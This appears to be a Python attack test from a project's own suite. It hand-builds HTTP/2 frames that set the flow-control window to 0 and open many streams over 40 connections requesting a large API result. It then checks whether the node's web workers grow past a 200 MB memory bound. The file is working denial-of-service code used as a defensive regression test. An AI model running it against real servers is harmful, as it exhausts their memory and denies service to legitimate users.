"""Request long answers by HTTP/2 with a window of 0, so that the node may send nothing of them.

Each connection opens as many streams as HTTP/2 allows. The answers wait in the memory of the web workers
for as long as the attacker leaves the connections open.
"""

import socket
import struct
import time
from contextlib import suppress

from tests.attacks.attack import Outcome, Target, closing

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _SETTINGS = 1, 4
_END_STREAM_AND_HEADERS = 5
_INITIAL_WINDOW_SIZE = 4
_PATH = b"/api/v1/contracts/results?limit=100"
_CONNECTIONS, _STREAMS = 40, 150
#: What the workers may grow by: more than ordinary requests of all kinds need.
_BOUND_BYTES = 200 << 20


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _literal(name: int, value: bytes) -> bytes:
    """Return a header whose name is in the static table, as an unindexed literal (RFC 7541, 6.2.2)."""
    return bytes([name, len(value)]) + value


def send_requests(client: socket.socket, streams: int = _STREAMS) -> None:
    """Begin HTTP/2 with a window of 0, and request a long answer by each stream."""
    settings = _frame(_SETTINGS, 0, 0, struct.pack(">HI", _INITIAL_WINDOW_SIZE, 0))
    # :method GET and :scheme http are entries 2 and 6 of the static table, :authority and :path 1 and 4.
    block = b"\x82\x86" + _literal(1, b"node") + _literal(4, _PATH)
    requests = (_frame(_HEADERS, _END_STREAM_AND_HEADERS, 2 * number + 1, block) for number in range(streams))
    client.sendall(_PREFACE + settings + b"".join(requests))


def attack(target: Target) -> Outcome:
    before = most = target.web_memory()
    clients: list[socket.socket] = []
    with closing() as stack:
        until = time.monotonic() + target.seconds
        while time.monotonic() < until:
            # An answer from the cache takes the node least.
            target.node.get(_PATH.decode())
            if len(clients) < _CONNECTIONS:
                clients.append(stack.enter_context(target.connect()))
                # A server without HTTP/2 answers 400 and closes.
                with suppress(OSError):
                    send_requests(clients[-1])
            most = max(most, target.web_memory())
    grown = most - before
    return Outcome(grown > _BOUND_BYTES, f"workers grew by {grown >> 20} MB")
